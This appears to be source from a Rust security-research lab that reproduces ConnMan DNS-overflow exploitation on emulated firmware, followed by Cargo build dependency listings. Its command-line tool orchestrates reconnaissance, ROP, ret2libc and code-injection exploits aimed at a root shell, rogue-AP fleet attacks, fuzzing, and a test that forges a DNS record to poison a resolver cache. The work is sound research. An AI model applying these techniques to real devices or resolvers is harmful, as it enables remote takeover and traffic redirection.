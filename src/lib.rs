//! Facade crate for the connman-lab workspace.
//!
//! Re-exports the public API of [`cml_core`] so that examples and
//! downstream users need a single dependency.
pub use cml_analyze as analysis;
pub use cml_connman as connman;
pub use cml_core::*;
pub use cml_dns as dns;
pub use cml_exploit as exploit;
pub use cml_firmware as firmware;
pub use cml_fuzz as fuzz;
pub use cml_image as image;
pub use cml_netsim as netsim;
pub use cml_vm as vm;
