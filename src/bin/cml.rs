//! `cml` — the connman-lab command line.
//!
//! ```text
//! cml survey                              # firmware exploitability survey
//! cml recon  --arch arm                   # print reconnaissance results
//! cml repro --arch riscv                  # one ISA's exploit-matrix column
//! cml exploit --arch x86 --prot full --strategy rop
//! cml dos    --arch arm --prot wxorx      # crash-only probe
//! cml pineapple --arch arm                # the remote §III-D scenario
//! cml fleet --devices 1000 --jobs 4       # fleet-scale rogue-AP attack
//! cml fleet --devices 1000 --resolver     # …through a poisoned upstream cache
//! cml resolve www.vendor.example --trace  # recursive resolution walkthrough
//! cml resolve --smoke                     # resolver CI gate
//! cml fuzz --arch x86 --variant vulnerable --seed 7 --max-execs 2000
//! cml experiments [e1 .. e10] --jobs 4    # regenerate paper tables
//! ```

use std::process::ExitCode;

use connman_lab::exploit::strategies::DosCrash;
use connman_lab::exploit::{
    ArmGadgetExeclp, CodeInjection, Ret2Libc, RiscvGadgetSystem, RopMemcpyChain,
};
use connman_lab::{Arch, AttackOutcome, ExploitStrategy, FirmwareKind, Lab, Protections};

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some(cmd) = args.first() else {
        usage();
        return ExitCode::FAILURE;
    };
    let opts = Opts::parse(&args[1..]);
    match cmd.as_str() {
        "survey" => survey(),
        "analyze" => analyze_cmd(&opts),
        "recon" => recon(&opts),
        "repro" => repro(&opts),
        "exploit" => exploit(&opts),
        "dos" => dos(&opts),
        "pineapple" => pineapple(&opts),
        "fleet" => fleet(&opts),
        "resolve" => resolve_cmd(&opts),
        "fuzz" => fuzz_cmd(&opts),
        "experiments" => experiments(&opts),
        "--help" | "-h" | "help" => {
            usage();
            ExitCode::SUCCESS
        }
        other => {
            eprintln!("unknown command {other:?}");
            usage();
            ExitCode::FAILURE
        }
    }
}

fn usage() {
    eprintln!(
        "usage: cml <command> [options]\n\
         \n\
         commands:\n\
         \x20 survey                         exploitability per firmware profile\n\
         \x20 analyze     --arch A --firmware F   static analysis report (JSON)\n\
         \x20 analyze     --sarif            emit the report as SARIF 2.1.0\n\
         \x20 analyze     --self-test        run the analyzer's CI self-test\n\
         \x20 recon       --arch A           run reconnaissance, print findings\n\
         \x20 repro       [--arch A]         replay the exploit matrix (all nine\n\
         \x20                                cells, or one ISA's column)\n\
         \x20 exploit     --arch A --prot P --strategy S\n\
         \x20 dos         --arch A --prot P  crash-only probe\n\
         \x20 pineapple   --arch A           remote rogue-AP scenario\n\
         \x20 fleet       --devices N [--cohorts SPEC] [--stream] [--resolver]\n\
         \x20                                rogue-AP attack on an N-device fleet\n\
         \x20 resolve     [NAME] [--seed N] [--trace]\n\
         \x20                                recursive resolution (root → TLD →\n\
         \x20                                authoritative) on the event scheduler\n\
         \x20 resolve     --smoke            resolver CI gate: delegation, CNAME,\n\
         \x20                                cache hit, determinism, poisoning\n\
         \x20 fuzz        --arch A --variant vulnerable|patched --seed N\n\
         \x20             --max-execs N [--out DIR] [--no-ir]\n\
         \x20                                coverage-guided fuzzing campaign\n\
         \x20 fuzz        --smoke [--no-ir]  fixed-seed CI check: the fuzzer must\n\
         \x20                                rediscover the overflow on vulnerable\n\
         \x20                                firmware and find nothing on patched\n\
         \x20                                (--no-ir pins fused-block dispatch)\n\
         \x20 experiments [e1 .. e10]        regenerate the paper tables\n\
         \n\
         options:\n\
         \x20 --arch      x86 | arm              (default arm)\n\
         \x20 --prot      none | wxorx | full | full+canary | full+cfi (default full)\n\
         \x20 --strategy  injection | ret2libc | execlp | rop | auto (default auto)\n\
         \x20 --firmware  yocto | openelec | tizen | patched (default openelec)\n\
         \x20 --jobs      N                      worker threads for experiments/fleet\n\
         \x20                                    (default 1, 0 = one per CPU)\n\
         \x20 --devices   N                      fleet size (default 100)\n\
         \x20 --cohorts   name=kind/arch/prot/count[/loss=P%][/entropy=B],...\n\
         \x20                                    explicit fleet mix (overrides --devices)\n\
         \x20 --stream    fleet: live devices/sec progress line on stderr\n\
         \x20 --fresh-boot                       fleet: boot every session from scratch\n\
         \x20                                    instead of forking boot snapshots\n\
         \x20 --resolver  fleet: cohorts query through a shared upstream resolver\n\
         \x20                                    cache poisoned once per cohort"
    );
}

struct Opts {
    arch: Arch,
    arch_given: bool,
    prot: Protections,
    strategy: String,
    firmware: FirmwareKind,
    jobs: usize,
    devices: usize,
    snapshot: bool,
    cohorts: Option<String>,
    stream: bool,
    resolver: bool,
    rest: Vec<String>,
}

impl Opts {
    fn parse(args: &[String]) -> Opts {
        let mut o = Opts {
            arch: Arch::Armv7,
            arch_given: false,
            prot: Protections::full(),
            strategy: "auto".to_string(),
            firmware: FirmwareKind::OpenElec,
            jobs: 1,
            devices: 100,
            snapshot: true,
            cohorts: None,
            stream: false,
            resolver: false,
            rest: Vec::new(),
        };
        let mut it = args.iter();
        while let Some(a) = it.next() {
            match a.as_str() {
                "--arch" => {
                    o.arch_given = true;
                    o.arch = match it.next().map(String::as_str) {
                        Some("x86") => Arch::X86,
                        Some("arm") | Some("armv7") => Arch::Armv7,
                        Some("riscv") | Some("rv32") => Arch::Riscv,
                        other => {
                            eprintln!("unknown arch {other:?}, using ARMv7");
                            Arch::Armv7
                        }
                    }
                }
                "--prot" => {
                    o.prot = match it.next().map(String::as_str) {
                        Some("none") => Protections::none(),
                        Some("wxorx") | Some("wx") => Protections::wxorx(),
                        Some("full") => Protections::full(),
                        Some("full+canary") => Protections::full().with_canary(),
                        Some("full+cfi") => Protections::full().with_cfi(),
                        other => {
                            eprintln!("unknown protections {other:?}, using full");
                            Protections::full()
                        }
                    }
                }
                "--strategy" => {
                    o.strategy = it.next().cloned().unwrap_or_else(|| "auto".into());
                }
                "--firmware" => {
                    o.firmware = match it.next().map(String::as_str) {
                        Some("yocto") => FirmwareKind::Yocto,
                        Some("openelec") => FirmwareKind::OpenElec,
                        Some("tizen") => FirmwareKind::Tizen,
                        Some("patched") => FirmwareKind::Patched,
                        other => {
                            eprintln!("unknown firmware {other:?}, using OpenELEC");
                            FirmwareKind::OpenElec
                        }
                    }
                }
                "--jobs" => {
                    o.jobs = it.next().and_then(|v| v.parse().ok()).unwrap_or_else(|| {
                        eprintln!("--jobs wants a number, using 1");
                        1
                    });
                }
                "--devices" => {
                    o.devices = it.next().and_then(|v| v.parse().ok()).unwrap_or_else(|| {
                        eprintln!("--devices wants a number, using 100");
                        100
                    });
                }
                "--snapshot" => o.snapshot = true,
                "--fresh-boot" => o.snapshot = false,
                "--cohorts" => o.cohorts = it.next().cloned(),
                "--stream" => o.stream = true,
                "--resolver" => o.resolver = true,
                other => o.rest.push(other.to_string()),
            }
        }
        o
    }

    fn pick_strategy(&self) -> Box<dyn ExploitStrategy> {
        match (self.strategy.as_str(), self.arch) {
            ("injection", arch) => Box::new(CodeInjection::new(arch)),
            ("ret2libc", _) => Box::new(Ret2Libc::new()),
            ("execlp", _) => Box::new(ArmGadgetExeclp::new()),
            ("system", _) => Box::new(RiscvGadgetSystem::new()),
            ("rop", arch) => Box::new(RopMemcpyChain::new(arch)),
            // auto: the technique matched to the protection level.
            (_, arch) => {
                if self.prot.aslr.enabled {
                    Box::new(RopMemcpyChain::new(arch))
                } else if self.prot.wxorx {
                    match arch {
                        Arch::X86 => Box::new(Ret2Libc::new()),
                        Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
                        Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
                    }
                } else {
                    Box::new(CodeInjection::new(arch))
                }
            }
        }
    }
}

fn survey() -> ExitCode {
    println!("{}", connman_lab::experiments::e4::run().to_markdown());
    ExitCode::SUCCESS
}

fn analyze_cmd(opts: &Opts) -> ExitCode {
    if opts.rest.iter().any(|a| a == "--self-test") {
        return match connman_lab::analysis::self_test() {
            Ok(summary) => {
                println!("analyze self-test OK");
                println!("{summary}");
                ExitCode::SUCCESS
            }
            Err(e) => {
                eprintln!("analyze self-test FAILED: {e}");
                ExitCode::FAILURE
            }
        };
    }
    let firmware = connman_lab::Firmware::build(opts.firmware, opts.arch);
    let report = connman_lab::analysis::analyze(firmware.image());
    if opts.rest.iter().any(|a| a == "--sarif") {
        println!("{}", report.to_sarif());
    } else {
        println!("{}", report.to_json());
    }
    // Exit 2 signals "findings present" so scripts can gate on it, the
    // same convention the exploit command uses for "no shell".
    if report.clean() {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(2)
    }
}

fn recon(opts: &Opts) -> ExitCode {
    let lab = Lab::new(opts.firmware, opts.arch).with_protections(opts.prot);
    match lab.recon() {
        Ok(info) => {
            println!(
                "target: {} on {} ({})",
                opts.firmware.os_name(),
                opts.arch,
                opts.prot.label()
            );
            println!("buffer → ret offset : {}", info.frame.ret_offset);
            println!("reference buffer    : {:#010x}", info.frame.buf_addr);
            println!("NULL-check slots    : {:?}", info.frame.null_offsets);
            println!(".bss base           : {:#010x}", info.bss_base);
            for plt in ["memcpy", "execlp"] {
                if let Some(a) = info.plt(plt) {
                    println!("{plt}@plt          : {a:#010x}");
                }
            }
            println!("gadgets found       : {}", info.gadgets.len());
            for g in info.gadgets.iter().take(12) {
                println!("  {g}");
            }
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("recon failed: {e}");
            ExitCode::FAILURE
        }
    }
}

/// Replays the paper's exploit matrix: for every protection level the
/// matched technique must pop a root shell. `--arch` narrows the run to
/// one column; without it all nine cells run.
fn repro(opts: &Opts) -> ExitCode {
    let arches: &[Arch] = if opts.arch_given {
        std::slice::from_ref(&opts.arch)
    } else {
        &Arch::ALL
    };
    let mut failures = 0;
    for &arch in arches {
        for prot in [
            Protections::none(),
            Protections::wxorx(),
            Protections::full(),
        ] {
            let strategy: Box<dyn ExploitStrategy> = if prot.aslr.enabled {
                Box::new(RopMemcpyChain::new(arch))
            } else if prot.wxorx {
                match arch {
                    Arch::X86 => Box::new(Ret2Libc::new()),
                    Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
                    Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
                }
            } else {
                Box::new(CodeInjection::new(arch))
            };
            let lab = Lab::new(opts.firmware, arch).with_protections(prot);
            let cell = format!(
                "{:7} / {:8} / {} ({})",
                arch.to_string(),
                prot.label(),
                strategy.name(),
                strategy.paper_section()
            );
            match lab.run_exploit(strategy.as_ref()) {
                Ok(report) => {
                    println!("{cell} → {}", report.outcome);
                    if report.outcome != AttackOutcome::RootShell {
                        failures += 1;
                    }
                }
                Err(e) => {
                    println!("{cell} → blocked: {e}");
                    failures += 1;
                }
            }
        }
    }
    if failures == 0 {
        println!("repro: all {} cells popped a root shell", arches.len() * 3);
        ExitCode::SUCCESS
    } else {
        eprintln!("repro: {failures} cell(s) failed");
        ExitCode::from(2)
    }
}

fn exploit(opts: &Opts) -> ExitCode {
    let strategy = opts.pick_strategy();
    let lab = Lab::new(opts.firmware, opts.arch).with_protections(opts.prot);
    println!(
        "attacking {} / {} / {} with {}…",
        opts.firmware.os_name(),
        opts.arch,
        opts.prot.label(),
        strategy.name()
    );
    match lab.run_exploit(strategy.as_ref()) {
        Ok(report) => {
            println!("outcome   : {}", report.outcome);
            println!(
                "predicted : {}",
                if report.predicted_success {
                    "shell"
                } else {
                    "no shell"
                }
            );
            println!("detail    : {}", report.proxy_outcome);
            println!("\n{}", report.listing);
            if report.outcome == AttackOutcome::RootShell {
                ExitCode::SUCCESS
            } else {
                ExitCode::from(2)
            }
        }
        Err(e) => {
            eprintln!("attack could not be built: {e}");
            ExitCode::FAILURE
        }
    }
}

fn dos(opts: &Opts) -> ExitCode {
    let lab = Lab::new(opts.firmware, opts.arch).with_protections(opts.prot);
    match lab.run_exploit(&DosCrash::new()) {
        Ok(report) => {
            println!("{}", report.proxy_outcome);
            ExitCode::SUCCESS
        }
        Err(e) => {
            println!("daemon survived: {e}");
            ExitCode::from(2)
        }
    }
}

fn pineapple(opts: &Opts) -> ExitCode {
    // Reuse the E3 machinery for a single run at the chosen arch.
    let table = connman_lab::experiments::e3::run();
    let rows: Vec<_> = table
        .rows
        .iter()
        .filter(|r| r[1] == opts.arch.to_string())
        .collect();
    println!("### remote rogue-AP runs for {}\n", opts.arch);
    for r in rows {
        println!(
            "{} [{}]: lured={} rogue-dns={} → {}",
            r[0], r[2], r[3], r[4], r[5]
        );
    }
    ExitCode::SUCCESS
}

fn fleet(opts: &Opts) -> ExitCode {
    use connman_lab::fleet::{run_fleet_cfg, CohortSpec, FleetConfig, FleetSpec};

    let spec = match &opts.cohorts {
        Some(list) => match CohortSpec::parse_list(list) {
            Ok(cohorts) => FleetSpec {
                base_seed: 0xF1EE7,
                cohorts,
            },
            Err(err) => {
                eprintln!("--cohorts: {err}");
                return ExitCode::FAILURE;
            }
        },
        None => FleetSpec::heterogeneous(opts.devices as u64, 0xF1EE7),
    };
    let mut cfg = FleetConfig::new(opts.jobs);
    cfg.no_snapshot = !opts.snapshot;
    cfg.resolver = opts.resolver;
    if opts.stream {
        cfg.progress = Some(std::sync::Arc::new(|done, secs| {
            eprint!(
                "\r{done} devices, {:.0} devices/sec ",
                done as f64 / secs.max(1e-9)
            );
        }));
    }
    let report = run_fleet_cfg(&spec, &cfg);
    if opts.stream {
        eprintln!();
    }
    print!("{}", report.render());
    println!(
        "({} workers, {} sessions, {:.1} devices/sec)",
        report.jobs,
        report.sessions,
        report.devices_per_sec()
    );
    let p = report.phases;
    println!(
        "(phases: forge {:.3}s, deliver {:.3}s, vm {:.3}s)",
        p.forge_secs, p.deliver_secs, p.vm_secs
    );
    ExitCode::SUCCESS
}

fn resolve_cmd(opts: &Opts) -> ExitCode {
    use connman_lab::dns::{Message, Name, Question, RecordType};
    use connman_lab::netsim::{example_internet, RecursiveResolver};

    if opts.rest.iter().any(|a| a == "--smoke") {
        return resolve_smoke();
    }
    let mut seed = 7u64;
    let mut trace = false;
    let mut name_arg: Option<String> = None;
    let mut it = opts.rest.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--seed" => match it.next().and_then(|v| v.parse().ok()) {
                Some(v) => seed = v,
                None => {
                    eprintln!("--seed wants a number");
                    return ExitCode::FAILURE;
                }
            },
            "--trace" => trace = true,
            other if !other.starts_with('-') => name_arg = Some(other.to_string()),
            other => {
                eprintln!("unknown resolve option {other:?}");
                return ExitCode::FAILURE;
            }
        }
    }
    let (mut net, demo) = example_internet();
    let name = match name_arg {
        Some(s) => match Name::parse(&s) {
            Ok(n) => n,
            Err(e) => {
                eprintln!("bad name {s:?}: {e}");
                return ExitCode::FAILURE;
            }
        },
        None => demo,
    };
    let mut resolver = RecursiveResolver::new(seed, 1024);
    let query = match Message::query(1, Question::new(name.clone(), RecordType::A)).encode() {
        Ok(q) => q,
        Err(e) => {
            eprintln!("query does not encode: {e}");
            return ExitCode::FAILURE;
        }
    };
    let Some(resp) = resolver.handle_query(&mut net, &query) else {
        if trace {
            print!("{}", resolver.trace());
        }
        eprintln!("resolution failed for {name}");
        return ExitCode::from(2);
    };
    if trace {
        print!("{}", resolver.trace());
    }
    match Message::decode(&resp) {
        Ok(m) => {
            for r in m.answers() {
                println!("{r}");
            }
        }
        Err(e) => {
            eprintln!("response does not decode: {e}");
            return ExitCode::FAILURE;
        }
    }
    let s = resolver.stats();
    let c = resolver.cache().stats();
    println!(
        "({} upstream queries, {} referrals, {} cname follows, {} glue chases, \
         cache {} hit / {} miss, clock {}us)",
        s.upstream_queries,
        s.referrals,
        s.cname_follows,
        s.glue_chases,
        c.hits,
        c.misses,
        resolver.now()
    );
    ExitCode::SUCCESS
}

/// Fixed-seed resolver CI gate: delegation chasing, CNAME following,
/// cache hits, trace determinism, and the poisoning redirection must
/// all behave exactly this way on every run.
fn resolve_smoke() -> ExitCode {
    use connman_lab::dns::{Message, Name, Question, Record, RecordData, RecordType};
    use connman_lab::netsim::{example_internet, RecursiveResolver};
    use std::net::Ipv4Addr;

    let run = |seed: u64| {
        let (mut net, www) = example_internet();
        let mut r = RecursiveResolver::new(seed, 64);
        let q = Message::query(5, Question::new(www, RecordType::A))
            .encode()
            .expect("query encodes");
        let resp = r.handle_query(&mut net, &q);
        (resp, r.trace().to_string(), r.stats())
    };
    let (resp_a, trace_a, stats) = run(7);
    let (resp_b, trace_b, _) = run(7);
    let (_, trace_c, _) = run(8);
    let Some(resp) = resp_a else {
        eprintln!("resolve smoke FAILED: the demo name does not resolve");
        return ExitCode::FAILURE;
    };
    if resp_b.as_deref() != Some(&resp[..]) || trace_a != trace_b {
        eprintln!("resolve smoke FAILED: same seed must replay byte-identically");
        return ExitCode::FAILURE;
    }
    if trace_a == trace_c {
        eprintln!("resolve smoke FAILED: latency draws must depend on the seed");
        return ExitCode::FAILURE;
    }
    if stats.cname_follows == 0 || stats.glue_chases == 0 || stats.referrals == 0 {
        eprintln!(
            "resolve smoke FAILED: the demo walk must exercise referrals, \
             CNAME and glue chasing (got {stats:?})"
        );
        return ExitCode::FAILURE;
    }
    // Cache + poisoning: one injected record redirects every later query.
    let (mut net, _) = example_internet();
    let mut r = RecursiveResolver::new(7, 64);
    let host = Name::parse("telemetry.vendor.example").expect("static name");
    let q = Message::query(1, Question::new(host.clone(), RecordType::A))
        .encode()
        .expect("query encodes");
    let mut forged = Message::response_to(&Message::decode(&q).expect("query decodes"));
    forged.push_answer(Record::new(
        host,
        600,
        RecordData::A(Ipv4Addr::new(10, 13, 37, 99)),
    ));
    let forged = forged.encode().expect("forged response encodes");
    if !r.poison(&q, &forged, 600) {
        eprintln!("resolve smoke FAILED: poisoning did not stick");
        return ExitCode::FAILURE;
    }
    for id in [2u16, 3, 4] {
        let q = Message::query(
            id,
            Question::new(
                Name::parse("Telemetry.VENDOR.example").expect("static name"),
                RecordType::A,
            ),
        )
        .encode()
        .expect("query encodes");
        let Some(resp) = r.handle_query(&mut net, &q) else {
            eprintln!("resolve smoke FAILED: poisoned query {id} unanswered");
            return ExitCode::FAILURE;
        };
        let m = Message::decode(&resp).expect("response decodes");
        let redirected = m.id() == id
            && m.answers().iter().any(
                |r| matches!(r.data(), RecordData::A(a) if *a == Ipv4Addr::new(10, 13, 37, 99)),
            );
        if !redirected {
            eprintln!("resolve smoke FAILED: query {id} not served from the poison");
            return ExitCode::FAILURE;
        }
    }
    if r.stats().upstream_queries != 0 {
        eprintln!("resolve smoke FAILED: poisoned hits must not touch upstream");
        return ExitCode::FAILURE;
    }
    println!(
        "resolve smoke OK (referrals={}, cname={}, glue={}, poisoned hits={})",
        stats.referrals,
        stats.cname_follows,
        stats.glue_chases,
        r.cache().stats().hits
    );
    ExitCode::SUCCESS
}

fn fuzz_cmd(opts: &Opts) -> ExitCode {
    use connman_lab::fuzz::{fuzz, FuzzConfig};

    // Escape hatch: pin the whole campaign (including worker threads)
    // to fused-block dispatch so the interpreter fallback stays
    // exercised in CI.
    if opts.rest.iter().any(|a| a == "--no-ir") {
        connman_lab::vm::set_ir_dispatch_default(false);
    }

    if opts.rest.iter().any(|a| a == "--smoke") {
        // Fixed-seed CI gate: the three campaigns below must behave
        // exactly this way on every run or the build fails.
        let budget = 1500;
        let checks = [
            (FirmwareKind::OpenElec, Arch::X86, true),
            (FirmwareKind::OpenElec, Arch::Armv7, true),
            (FirmwareKind::OpenElec, Arch::Riscv, true),
            (FirmwareKind::Patched, Arch::X86, false),
            (FirmwareKind::Patched, Arch::Riscv, false),
        ];
        for (kind, arch, expect_crash) in checks {
            let cfg = FuzzConfig::new(kind, arch, 0x5EED, budget, opts.jobs.max(1));
            let report = fuzz(&cfg);
            let found = report.found_overflow();
            println!(
                "fuzz smoke {kind:?}/{arch}: {} execs, {} unique crashes {:?}",
                report.total_execs(),
                report.crashes.len(),
                report.crash_keys()
            );
            if expect_crash && !found {
                eprintln!("fuzz smoke FAILED: expected overflow rediscovery on {kind:?}/{arch}");
                return ExitCode::FAILURE;
            }
            if !expect_crash && !report.crashes.is_empty() {
                eprintln!(
                    "fuzz smoke FAILED: patched firmware crashed: {:?}",
                    report.crash_keys()
                );
                return ExitCode::FAILURE;
            }
        }
        println!("fuzz smoke OK");
        return ExitCode::SUCCESS;
    }

    let mut kind = opts.firmware;
    let mut seed = 0x5EEDu64;
    let mut max_execs = 2000u64;
    let mut out_dir = std::path::PathBuf::from("fuzz_out");
    let mut it = opts.rest.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--variant" => match it.next().map(String::as_str) {
                Some("vulnerable") => kind = FirmwareKind::OpenElec,
                Some("patched") => kind = FirmwareKind::Patched,
                other => {
                    eprintln!("unknown variant {other:?} (want vulnerable|patched)");
                    return ExitCode::FAILURE;
                }
            },
            "--seed" => match it.next().and_then(|v| v.parse().ok()) {
                Some(v) => seed = v,
                None => {
                    eprintln!("--seed wants a number");
                    return ExitCode::FAILURE;
                }
            },
            "--max-execs" => match it.next().and_then(|v| v.parse().ok()) {
                Some(v) => max_execs = v,
                None => {
                    eprintln!("--max-execs wants a number");
                    return ExitCode::FAILURE;
                }
            },
            "--out" => match it.next() {
                Some(v) => out_dir = std::path::PathBuf::from(v),
                None => {
                    eprintln!("--out wants a directory");
                    return ExitCode::FAILURE;
                }
            },
            "--no-ir" => {} // handled above, before any machine exists

            other => {
                eprintln!("unknown fuzz option {other:?}");
                return ExitCode::FAILURE;
            }
        }
    }
    let cfg = FuzzConfig::new(kind, opts.arch, seed, max_execs, opts.jobs.max(1));
    let report = fuzz(&cfg);
    if let Err(e) = report.write_artifacts(&out_dir) {
        eprintln!("could not write artifacts under {}: {e}", out_dir.display());
        return ExitCode::FAILURE;
    }
    print!("{}", report.stats_json());
    println!("artifacts: {}", out_dir.display());
    // Exit 2 signals "crashes found" so scripts can gate on it, the
    // same convention analyze/exploit use.
    if report.crashes.is_empty() {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(2)
    }
}

fn experiments(opts: &Opts) -> ExitCode {
    if opts.rest.is_empty() {
        println!(
            "{}",
            connman_lab::experiments::run_all_jobs(opts.jobs).to_markdown()
        );
        return ExitCode::SUCCESS;
    }
    let mut ok = true;
    for id in &opts.rest {
        match connman_lab::experiments::run_one_jobs(id, opts.jobs) {
            Some(t) => println!("{}", t.to_markdown()),
            None => {
                eprintln!("unknown experiment {id:?}");
                ok = false;
            }
        }
    }
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
