/root/repo/target/release/deps/fleet_throughput-668b9132f51e43e4.d: crates/bench/benches/fleet_throughput.rs

/root/repo/target/release/deps/fleet_throughput-668b9132f51e43e4: crates/bench/benches/fleet_throughput.rs

crates/bench/benches/fleet_throughput.rs:
