/root/repo/target/release/deps/failure_injection-727b21d90d2cbe55.d: tests/failure_injection.rs

/root/repo/target/release/deps/failure_injection-727b21d90d2cbe55: tests/failure_injection.rs

tests/failure_injection.rs:
