/root/repo/target/release/deps/repro-a593caae12accc0a.d: crates/bench/src/bin/repro.rs

/root/repo/target/release/deps/repro-a593caae12accc0a: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
