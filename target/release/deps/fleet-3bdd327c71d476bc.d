/root/repo/target/release/deps/fleet-3bdd327c71d476bc.d: tests/fleet.rs

/root/repo/target/release/deps/fleet-3bdd327c71d476bc: tests/fleet.rs

tests/fleet.rs:
