/root/repo/target/release/deps/cml_connman-53f20ba998e16a25.d: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/release/deps/cml_connman-53f20ba998e16a25: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

crates/connman/src/lib.rs:
crates/connman/src/cache.rs:
crates/connman/src/daemon.rs:
crates/connman/src/frame.rs:
crates/connman/src/outcome.rs:
crates/connman/src/uncompress.rs:
crates/connman/src/version.rs:
