/root/repo/target/release/deps/gadget_soundness-ffd610c700351aa4.d: crates/exploit/tests/gadget_soundness.rs

/root/repo/target/release/deps/gadget_soundness-ffd610c700351aa4: crates/exploit/tests/gadget_soundness.rs

crates/exploit/tests/gadget_soundness.rs:
