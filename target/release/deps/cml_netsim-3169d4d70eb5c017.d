/root/repo/target/release/deps/cml_netsim-3169d4d70eb5c017.d: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/release/deps/cml_netsim-3169d4d70eb5c017: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

crates/netsim/src/lib.rs:
crates/netsim/src/addr.rs:
crates/netsim/src/ap.rs:
crates/netsim/src/env.rs:
crates/netsim/src/pineapple.rs:
crates/netsim/src/station.rs:
