/root/repo/target/release/deps/connman_lab-9b92e614929287a8.d: src/lib.rs

/root/repo/target/release/deps/connman_lab-9b92e614929287a8: src/lib.rs

src/lib.rs:
