/root/repo/target/release/deps/gadget_search-389c7c9237a4dcff.d: crates/bench/benches/gadget_search.rs

/root/repo/target/release/deps/gadget_search-389c7c9237a4dcff: crates/bench/benches/gadget_search.rs

crates/bench/benches/gadget_search.rs:
