/root/repo/target/release/deps/end_to_end-bd46b9105bcdcab3.d: crates/bench/benches/end_to_end.rs

/root/repo/target/release/deps/end_to_end-bd46b9105bcdcab3: crates/bench/benches/end_to_end.rs

crates/bench/benches/end_to_end.rs:
