/root/repo/target/release/deps/remote_attack-2463f3c1c246e038.d: tests/remote_attack.rs

/root/repo/target/release/deps/remote_attack-2463f3c1c246e038: tests/remote_attack.rs

tests/remote_attack.rs:
