/root/repo/target/release/deps/dns_codec-af8f3d90602ba155.d: crates/bench/benches/dns_codec.rs

/root/repo/target/release/deps/dns_codec-af8f3d90602ba155: crates/bench/benches/dns_codec.rs

crates/bench/benches/dns_codec.rs:
