/root/repo/target/release/deps/prop_wire-32465ff4f03aea70.d: crates/dns/tests/prop_wire.rs

/root/repo/target/release/deps/prop_wire-32465ff4f03aea70: crates/dns/tests/prop_wire.rs

crates/dns/tests/prop_wire.rs:
