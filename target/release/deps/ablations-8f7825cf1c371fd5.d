/root/repo/target/release/deps/ablations-8f7825cf1c371fd5.d: crates/bench/benches/ablations.rs

/root/repo/target/release/deps/ablations-8f7825cf1c371fd5: crates/bench/benches/ablations.rs

crates/bench/benches/ablations.rs:
