/root/repo/target/release/deps/properties-545d16f44e114bf5.d: tests/properties.rs

/root/repo/target/release/deps/properties-545d16f44e114bf5: tests/properties.rs

tests/properties.rs:
