/root/repo/target/release/deps/service_adaptation-bec9ed13a177e6bc.d: crates/exploit/tests/service_adaptation.rs

/root/repo/target/release/deps/service_adaptation-bec9ed13a177e6bc: crates/exploit/tests/service_adaptation.rs

crates/exploit/tests/service_adaptation.rs:
