/root/repo/target/release/deps/cml_firmware-67343f1c42c7855b.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/release/deps/cml_firmware-67343f1c42c7855b: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
