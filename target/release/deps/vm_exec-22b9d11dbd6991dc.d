/root/repo/target/release/deps/vm_exec-22b9d11dbd6991dc.d: crates/bench/benches/vm_exec.rs

/root/repo/target/release/deps/vm_exec-22b9d11dbd6991dc: crates/bench/benches/vm_exec.rs

crates/bench/benches/vm_exec.rs:
