/root/repo/target/release/deps/cml_dns-875644e4b92d0637.d: crates/dns/src/lib.rs crates/dns/src/error.rs crates/dns/src/forge.rs crates/dns/src/header.rs crates/dns/src/message.rs crates/dns/src/name.rs crates/dns/src/question.rs crates/dns/src/record.rs crates/dns/src/validate.rs crates/dns/src/wire.rs crates/dns/src/zone.rs

/root/repo/target/release/deps/cml_dns-875644e4b92d0637: crates/dns/src/lib.rs crates/dns/src/error.rs crates/dns/src/forge.rs crates/dns/src/header.rs crates/dns/src/message.rs crates/dns/src/name.rs crates/dns/src/question.rs crates/dns/src/record.rs crates/dns/src/validate.rs crates/dns/src/wire.rs crates/dns/src/zone.rs

crates/dns/src/lib.rs:
crates/dns/src/error.rs:
crates/dns/src/forge.rs:
crates/dns/src/header.rs:
crates/dns/src/message.rs:
crates/dns/src/name.rs:
crates/dns/src/question.rs:
crates/dns/src/record.rs:
crates/dns/src/validate.rs:
crates/dns/src/wire.rs:
crates/dns/src/zone.rs:
