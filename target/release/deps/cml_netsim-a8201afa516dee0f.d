/root/repo/target/release/deps/cml_netsim-a8201afa516dee0f.d: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/release/deps/libcml_netsim-a8201afa516dee0f.rlib: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/release/deps/libcml_netsim-a8201afa516dee0f.rmeta: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

